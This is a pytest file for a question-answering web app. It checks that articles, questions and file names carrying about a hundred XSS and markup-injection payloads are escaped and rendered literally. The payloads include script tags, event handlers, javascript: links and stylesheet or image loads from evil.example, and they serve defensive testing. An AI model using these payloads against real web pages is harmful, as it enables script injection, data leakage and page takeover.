"""Articles, questions and file names written to take over the page: shown literally; nothing runs or is fetched."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from browser import PHONE, Served, ask, library_served, needs_browser, serving, upload, window

from pincite.index import Article
from pincite.rag import Doubt, open_library
from pincite.ui import markup
from pincite.ui.exchange import Exchange, Pin
from pincite.ui.talks import filters_of

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from pincite.rag import Library

PAYLOADS = [
    "<script>window.hit=1</script>",
    '<img src=x onerror="window.hit=1">',
    "<img src=http://evil.example/a.png>",
    "<svg/onload=window.hit=1>",
    "<iframe src=http://evil.example/></iframe>",
    "<a href=javascript:window.hit=1 class=pc-pin>1</a>",
    "<a href='http://evil.example/'>click</a>",
    "[click](javascript:window.hit=1)",
    "[click](http://evil.example/ 'title')",
    "![picture](http://evil.example/b.png)",
    "![picture][ref]\n\n[ref]: http://evil.example/c.png",
    "http://evil.example/auto www.evil.example me@evil.example",
    "</style><style>*{display:none!important}</style>",
    "<style>@import 'http://evil.example/d.css';</style>",
    "<link rel=stylesheet href=http://evil.example/e.css>",
    "<base href=http://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<form action=http://evil.example/><input autofocus onfocus=window.hit=1></form>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    "</p></div></span><h1 id=pc-bar>broken out</h1>",
    "<!-- <img src=x onerror=window.hit=1> -->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    '" onmouseover="window.hit=1" x="',
    "' autofocus onfocus='window.hit=1",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#x3c;b&#x3e;",
    "$$\\href{javascript:window.hit=1}{x}$$ \\(x\\) $x$",
    "```mermaid\ngraph TD; A-->B\n```",
    "**bold** _it_ ~~no~~ `code` # head",
    "| a | b |\n|---|---|\n| c | d |",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %>",
    "#pin=x/1/0-5 [1] [99] [[1]] [1](javascript:window.hit=1)",
    "left \u202egnp.exe\u202c right \u2066x\u2069 \u200b\ufeff",
    "\x00\x01\x1b[31m\x7f\x85\u2028\u2029\ufffe end",
    "<script src=http://evil.example/f.js></script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script/x>window.hit=1</script/x>",
    "<<script>window.hit=1//<</script>",
    "<script>window.hit=1",
    "<img src=x onerror=window.hit=1//",
    "<img srcset='http://evil.example/g.png 1x'>",
    "<img src=`javascript:window.hit=1`>",
    "<picture><source srcset=http://evil.example/h.png><img></picture>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.hit=1>#x'></use></svg>",
    "<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text>x</text></a></svg>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<textarea autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<audio src=x onerror=window.hit=1>",
    "<object data='javascript:window.hit=1'></object>",
    "<embed src=http://evil.example/i.swf>",
    "<applet code=x></applet>",
    "<frameset onload=window.hit=1><frame src=http://evil.example/></frameset>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    '<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>',
    "<dialog open>cover</dialog>",
    "<dialog id=pc-case open><form action=http://evil.example/><button>ok</button></form></dialog>",
    "<p id=pc-chips class=pc-veil style='position:fixed;inset:0'>cover</p>",
    "<div class='pc-do pc-do-redo'>press</div><button class=pc-do>x</button>",
    "<a class=pc-source href=http://evil.example/>1</a>",
    "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
    "<a href='vbscript:window.hit=1'>x</a>",
    "<a href=' java\tscript:window.hit=1'>x</a>",
    "<a target=_top href=//evil.example>x</a>",
    "<area href=javascript:window.hit=1><map name=x></map>",
    "<button formaction=javascript:window.hit=1>x</button>",
    "<isindex action=javascript:window.hit=1>",
    "<keygen autofocus onfocus=window.hit=1>",
    "<template><script>window.hit=1</script></template>",
    "<slot onslotchange=window.hit=1></slot>",
    "<style>body{background:url(http://evil.example/j.png)}</style>",
    "<div style=\"background:url('http://evil.example/k.png')\">x</div>",
    "<div style='width:expression(window.hit=1)'>x</div>",
    "<link rel=preload as=image href=http://evil.example/l.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<xmp><img src=x onerror=window.hit=1></xmp>",
    "<plaintext>",
    "<listing>&lt;img onerror=window.hit=1 src=x&gt;</listing>",
    "<?xml-stylesheet href='http://evil.example/m.css'?>",
    "<!DOCTYPE html><html><head><title>mine</title>",
    "[x]: javascript:window.hit=1 'y'\n\n[x]",
    "<javascript:window.hit=1>",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "[![x](http://evil.example/n.png)](http://evil.example/)",
    "![x](//evil.example/o.png =1x1)",
    "<http://evil.example/> [a]: <http://evil.example/>",
    "# one\n## two\n***\n> three\n- four\n1. five",
    "\\<script>window.hit=1\\</script> \\[x\\](y)",
    "&#60;img src=x onerror=window.hit=1&#62; &quot; &apos;",
    "&amp;lt;script&amp;gt; %3Cscript%3E \\u003cscript\\u003e",
    "```html\n<img src=x onerror=window.hit=1>\n```\n~~~\nx\n~~~",
    "[^1] footnote\n\n[^1]: <img src=http://evil.example/p.png>",
    "\\(\\href{javascript:window.hit=1}{x}\\) \\[\\includegraphics{http://evil.example/q.png}\\]",
    ":::note\n<img src=x onerror=window.hit=1>\n:::",
    "<think>window.hit=1</think><tool_call>x</tool_call>",
    "\u202eevil\u202c \u061c\u200f\u2068 \u2069\u2067 end",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0320\u0345lgo \U0001f469\u200d\U0001f469\u200d\U0001f467 \ufdfa",
    "a" * 4_000,
]


def hostile(number: int, payload: str) -> Article:
    text = f"The keeper of lighthouse {number} is called {payload} and has 40 lamps."
    return Article.create(f"x/{payload}", text, title=f"{payload} {number}", id=f"hostile{number}")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_escaped_text_leaves_html_and_markdown_nothing_to_act_on(payload: str) -> None:
    assert not set(markup.escape(payload)) & set("<>\"'`*_[]()!|$\\{}~:/.\n\x00\u202e")


def test_every_part_of_an_answer_is_escaped() -> None:
    pin = Pin(1, '"><script>', 1, 0, 3, "<b>", "<i>", "<u>", (0, 1), supported=False, why="<w>")
    stage = {"name": "<n>", "ms": 1, "<k>": "<v>"}
    doubts = (Doubt(0, 3, (), "<d>"), Doubt(4, 7, (1,), "<e>"))
    trace = {"question": "<s>", "stages": [stage], "passages": [{"title": "<p>", "score": 1, "vector": "<r>"}]}
    said = Exchange(
        "<q>",
        "done",
        "",
        "<t> [1]\n<l> [1]",
        (pin,),
        (("<l>", (1,)),),
        model="<m>",
        confidence=0.5,
        trace=trace,
        doubts=doubts,
        note="<o>",
    )
    html = markup.question(said) + markup.answer(said) + markup.answer(replace(said, refused=True, missing=("<x>",)))
    assert re.findall(r"<[btiuwnkvsprqlmxdeo]>|<script", html) == []
    assert 'href="#pin=%22%3E%3Cscript%3E/1/0-3/0-1"' in html


@pytest.mark.parametrize("chosen", [[], "x", {"article_ids": "x"}, {"article_ids": [1]}, {"since": "x"}, {"source": 1}])
def test_chosen_articles_that_are_none_are_refused(chosen: Any) -> None:
    with pytest.raises((ValueError, AttributeError)):
        filters_of(chosen)


def test_a_marker_without_its_place_is_only_text() -> None:
    html = markup.answer(Exchange(question="?", text="So they say [7].", state="done"))
    assert ("&#91;7&#93;" in html, "<a" in html) == (True, False)


needs_browser()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    articles = (hostile(number, payload) for number, payload in enumerate(PAYLOADS))
    with library_served(tmp_path_factory.mktemp("hostile"), articles, examples=PAYLOADS[:4]) as served:
        yield served


@pytest.fixture
def library(served: Served) -> Library:
    return served.library


@pytest.mark.browser
def test_hostile_questions_and_answers_are_shown_literally(browser: Browser, address: str) -> None:
    with window(browser, address) as page:
        for number in range(0, len(PAYLOADS), 3):
            called = " ".join(PAYLOADS[number : number + 3])
            ask(page, f"How many lamps has the keeper of lighthouse {number} called {called}")
        asked = " ".join(page.locator("#pc-chat .pc-asked").all_inner_texts())
        assert [PAYLOADS[number] for number in (0, 1, 7, 9, 15, 27, 28, 33) if PAYLOADS[number] not in asked] == []
        ours = "A B BDI BUTTON DIV LI P SPAN UL OL MARK DETAILS SUMMARY TABLE CAPTION THEAD TBODY TR TH TD".split()
        tags = page.evaluate("[...document.querySelectorAll('#pc-chat .message *')].map((one) => one.tagName)")
        assert set(tags) <= set(ours)
        links = page.evaluate("[...document.querySelectorAll('#pc-chat a')].map((one) => one.getAttribute('href'))")
        assert [link for link in links if not link.startswith("#pin=")] == []
        assert page.evaluate("window.hit") is None
        assert page.locator("#pc-bar").count() == 1


@pytest.mark.browser
def test_hostile_articles_are_shown_literally(browser: Browser, address: str, library: Library) -> None:
    with window(browser, address) as page:
        for number in range(len(PAYLOADS)):
            article = library.article(f"hostile{number}")
            page.evaluate(f"location.hash = '#pin=hostile{number}/1/4-{len(article.text) - 1}'")
            page.wait_for_function(
                "(title) => document.querySelector('#pc-article-title').textContent === title", arg=article.title
            )
            shown = page.locator("#pc-article-text").evaluate("(one) => one.textContent")
            assert shown.replace("\n", "") == article.text.replace("\n", "")
        tags = page.evaluate("[...document.querySelectorAll('#pc-article *')].map((one) => one.tagName)")
        assert set(tags) <= {"HEADER", "DIV", "BUTTON", "SPAN", "H2", "H3", "P", "BDI", "MARK"}
        assert page.locator("#pc-articles li").count() == len(PAYLOADS)
        assert page.evaluate("window.hit") is None


@pytest.mark.browser
def test_hostile_file_names_are_shown_literally(browser: Browser, library: Library, tmp_path: Path) -> None:
    name = "<img src=x onerror=window.hit=1> & [a](b).txt"
    (tmp_path / name).write_text("<script>window.hit=1</script> The lamp of Ness burns 12 hours.")
    with serving(library) as address, window(browser, address) as page:
        upload(page, [tmp_path / name])
        page.locator("#pc-outcomes [data-status=added]").wait_for()
        assert page.locator("#pc-outcomes .pc-name").inner_text() == name
        assert page.evaluate("window.hit") is None


@pytest.mark.browser
@pytest.mark.parametrize("size", [PHONE, {"width": 1440, "height": 900}], ids=["phone", "wide"])
def test_a_line_of_a_megabyte_leaves_the_page_usable(browser: Browser, tmp_path: Path, size: dict[str, int]) -> None:
    line = "x" * 500_000
    text = f"{line} The mast is 31 metres high. {line}"
    with open_library(tmp_path / "long") as library:
        library.add_articles([Article.create("long.txt", text, title="A" * 300)])
        with serving(library) as address, window(browser, address, size) as page:
            start = text.index("The mast")
            (entry,) = library.entries()
            page.evaluate(f"location.hash = '#pin={entry.id}/1/{start}-{start + 27}'")
            page.locator("#pc-article-text mark").wait_for()
            assert page.locator("#pc-article-text mark").inner_text() == "The mast is 31 metres high."
            assert page.evaluate("document.documentElement.scrollWidth") == size["width"]
            assert page.evaluate("document.documentElement.scrollHeight") == size["height"]
            page.evaluate("location.hash = ''")
            if size["width"] < 700:
                page.locator("#pc-veil").click(position={"x": 20, "y": 20})  # the article lies over the rest there
            page.fill("#pc-question textarea", "y" * 1_000_000)
            page.press("#pc-question textarea", "Enter")
            page.get_by_text("the most").first.wait_for(timeout=60_000)
            assert page.evaluate("document.documentElement.scrollWidth") == size["width"]
            page.click("#pc-new")
            page.locator("#pc-chat .bot-row").wait_for(state="detached")
            assert "31 metres" in ask(page, "How high is the mast?")
